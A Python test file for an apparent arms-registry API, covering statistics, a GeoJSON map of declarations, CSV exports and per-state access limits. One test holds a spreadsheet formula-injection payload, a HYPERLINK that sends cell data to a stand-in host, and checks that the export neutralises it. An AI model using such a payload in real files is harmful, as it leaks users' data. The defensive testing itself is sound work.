"""Statistics, the GeoJSON map and streaming CSV exports, within tenancy."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient

from tests.registry.factories import INDEX, MANIFESTS, declared_weapon, delivery, manifest, weapon
from tests.support.auth_fixtures import AuthApi
from tests.support.responses import assert_status

STATS = "/registry/v1/statistics"


def _seed(client: TestClient, auth_api: AuthApi) -> str:
    sen = auth_api.member_state_headers("SEN")
    created = client.post(
        MANIFESTS,
        json=manifest(
            [weapon("S-1"), weapon("S-2"), weapon("S-3")],
            mission="MINUSMA",
            crossing_date="2023-02-01",
        ),
        headers=sen,
    )
    assert_status(created)
    relay = auth_api.operator_headers(("index:write",))
    assert_status(
        client.post(
            INDEX,
            json=delivery([declared_weapon(0, "X-1"), declared_weapon(1, "X-2")]),
            headers=relay,
        ),
        200,
    )
    return str(created.json()["id"])


def _counts(body: dict[str, object]) -> set[tuple[object, ...]]:
    items = body["items"]
    assert isinstance(items, list)
    return {(i["source"], i["key"], i["records"]) for i in items}


def test_statistics_count_both_registers_for_a_secretariat(
    client: TestClient, auth_api: AuthApi
) -> None:
    _seed(client, auth_api)
    ecowas = auth_api.secretariat_headers("ECOWAS")
    by_type = client.get(STATS, params={"group_by": "type"}, headers=ecowas)
    assert by_type.status_code == 200, by_type.text
    assert _counts(by_type.json()) == {
        ("manifests", "manifest_in", 3),
        ("declarations", "seizure", 2),
    }
    by_year = client.get(STATS, params={"group_by": "year", "from": "2024-01-01"}, headers=ecowas)
    assert _counts(by_year.json()) == {("declarations", "2024", 2)}


def test_statistics_apply_tenancy(client: TestClient, auth_api: AuthApi) -> None:
    _seed(client, auth_api)
    sen = client.get(
        STATS, params={"group_by": "country"}, headers=auth_api.member_state_headers("SEN")
    )
    assert _counts(sen.json()) == {("manifests", "SEN", 3)}
    gha = client.get(
        STATS, params={"group_by": "country"}, headers=auth_api.member_state_headers("GHA")
    )
    assert gha.json()["items"] == []
    bad = client.get(
        STATS, params={"group_by": "colour"}, headers=auth_api.member_state_headers("GHA")
    )
    assert bad.status_code == 422
    backwards = client.get(
        STATS,
        params={"group_by": "kind", "from": "2025-01-01", "to": "2024-01-01"},
        headers=auth_api.member_state_headers("GHA"),
    )
    assert backwards.status_code == 422


def test_the_map_shows_declarations_the_caller_may_read(
    client: TestClient, auth_api: AuthApi
) -> None:
    _seed(client, auth_api)
    url = f"{STATS}/locations.geojson"
    seen = client.get(url, headers=auth_api.secretariat_headers("ECOWAS"))
    assert seen.headers["content-type"].startswith("application/geo+json")
    (feature,) = seen.json()["features"]
    assert feature["geometry"] == {"type": "Point", "coordinates": [2.4, 15.9]}
    assert feature["properties"]["declaration_id"] == "decl-1"
    hidden = client.get(url, headers=auth_api.member_state_headers("GHA"))
    assert hidden.json()["features"] == []


def test_the_map_lists_every_year_of_the_range_and_shows_one_year_past_the_limit(
    client: TestClient, auth_api: AuthApi
) -> None:
    relay = auth_api.operator_headers(("index:write",))
    for number, day in enumerate(("2022-05-01", "2023-03-01", "2024-07-01", "2024-08-01")):
        located = delivery(
            [declared_weapon(0, f"Y-{number}")], declaration_id=f"decl-{day}", event_date=day
        )
        assert_status(client.post(INDEX, json=located, headers=relay), 200)
    url = f"{STATS}/locations.geojson"
    ecowas = auth_api.secretariat_headers("ECOWAS")

    cut = client.get(url, params={"limit": 1}, headers=ecowas).json()
    assert [f["properties"]["event_date"] for f in cut["features"]] == ["2022-05-01"]
    assert cut["truncated"] is True
    assert cut["years"] == [2022, 2023, 2024]  # every year, not only the returned point's

    year = client.get(url, params={"limit": 1, "year": 2024}, headers=ecowas).json()
    assert [f["properties"]["event_date"] for f in year["features"]] == ["2024-07-01"]
    assert year["truncated"] is True
    assert year["years"] == [2022, 2023, 2024]

    ranged = {"from": "2023-01-01", "year": 2022}
    outside = client.get(url, params=ranged, headers=ecowas).json()
    assert outside["features"] == []
    assert outside["years"] == [2023, 2024]
    refused = client.get(url, params={"year": 0}, headers=ecowas)
    assert refused.status_code == 422
    hidden = client.get(url, params={"year": 2024}, headers=auth_api.member_state_headers("GHA"))
    assert hidden.json()["features"] == []
    assert hidden.json()["years"] == []


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_manifest_items_export_streams_every_item_as_csv(
    client: TestClient, auth_api: AuthApi
) -> None:
    manifest_id = _seed(client, auth_api)
    sen = auth_api.member_state_headers("SEN")
    url = f"{MANIFESTS}/{manifest_id}/items/export.csv"
    response = client.get(url, headers=sen)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    rows = _rows(response.text)
    assert rows[0][:3] == ["line", "kind", "category"]
    assert [r[6] for r in rows[1:]] == ["S-1", "S-2", "S-3"]
    assert client.get(url, headers=auth_api.member_state_headers("GHA")).status_code == 404


def test_alerts_and_reconciliation_export_as_csv(client: TestClient, auth_api: AuthApi) -> None:
    _seed(client, auth_api)
    relay = auth_api.operator_headers(("index:write",))
    assert_status(
        client.post(
            INDEX,
            json=delivery([declared_weapon(0, "S-2")], declaration_id="decl-9"),
            headers=relay,
        ),
        200,
    )
    sen = auth_api.member_state_headers("SEN")
    alerts = _rows(client.get("/registry/v1/alerts/export.csv", headers=sen).text)
    assert [r[1] for r in alerts[1:]] == ["diversion"]
    lines = _rows(
        client.get(
            "/registry/v1/reconciliation/export.csv", params={"mission": "MINUSMA"}, headers=sen
        ).text
    )
    assert lines[0][0] == "kind"
    assert sorted(r[7] for r in lines[1:]) == ["S-1", "S-2", "S-3"]
    unknown = client.get(
        "/registry/v1/reconciliation/export.csv", params={"mission": "NOPE"}, headers=sen
    )
    assert unknown.status_code == 422


def test_exported_text_that_a_spreadsheet_would_evaluate_is_kept_as_text(
    client: TestClient, auth_api: AuthApi
) -> None:
    sen = auth_api.member_state_headers("SEN")
    hostile = '=HYPERLINK("http://x.example/?"&A1,"click")'
    items = [
        weapon("F-1", markings=hostile, model="+AK", manufacturer="@Izhmash"),
        weapon("F-2", model="-47"),
    ]
    created = client.post(MANIFESTS, json=manifest(items), headers=sen)
    assert created.status_code == 201, created.text
    url = f"{MANIFESTS}/{created.json()['id']}/items/export.csv"
    rows = _rows(client.get(url, headers=sen).text)
    header, *body = rows
    cells = [dict(zip(header, row, strict=True)) for row in body]
    assert cells[0]["markings"] == "'" + hostile
    assert (cells[0]["model"], cells[0]["manufacturer"]) == ("'+AK", "'@Izhmash")
    assert cells[1]["model"] == "'-47"
    assert cells[0]["line"] == "0"  # numbers are numbers


def test_the_map_years_skip_empty_years_and_records_without_a_place_or_out_of_reach(
    client: TestClient, auth_api: AuthApi
) -> None:
    # Read year after year from the located records' date indexes (registry0023): a year
    # between two others, a record without coordinates, another type and another state's
    # record must each count (or not) exactly as the caller may see them.
    relay = auth_api.operator_headers(("index:write",))
    unlocated = {"country": "MLI", "place": None, "lat": None, "lon": None}
    records = [
        ("decl-a", "2016-12-31", "NER", "seizure", None),
        ("decl-b", "2017-01-01", "NER", "seizure", unlocated),
        ("decl-c", "2019-06-30", "NER", "destruction", None),
        ("decl-d", "2021-01-01", "GHA", "seizure", None),
    ]
    for number, (declaration_id, day, country, type_, location) in enumerate(records):
        extra = {"location": location} if location else {}
        body = delivery(
            [declared_weapon(0, f"Z-{number}")],
            declaration_id=declaration_id,
            event_date=day,
            country=country,
            type_=type_,
            **extra,
        )
        assert_status(client.post(INDEX, json=body, headers=relay), 200)
    url = f"{STATS}/locations.geojson"

    def years(headers: dict[str, str], **params: str) -> list[int]:
        answer = client.get(url, params=params, headers=headers)
        assert_status(answer, 200)
        return list(answer.json()["years"])

    ecowas = auth_api.secretariat_headers("ECOWAS")
    assert years(ecowas) == [2016, 2019, 2021]
    assert years(ecowas, type="seizure") == [2016, 2021]
    assert years(ecowas, **{"from": "2017-01-01", "to": "2020-12-31"}) == [2019]
    assert years(auth_api.member_state_headers("NER")) == [2016, 2019]
    assert years(auth_api.member_state_headers("SEN")) == []
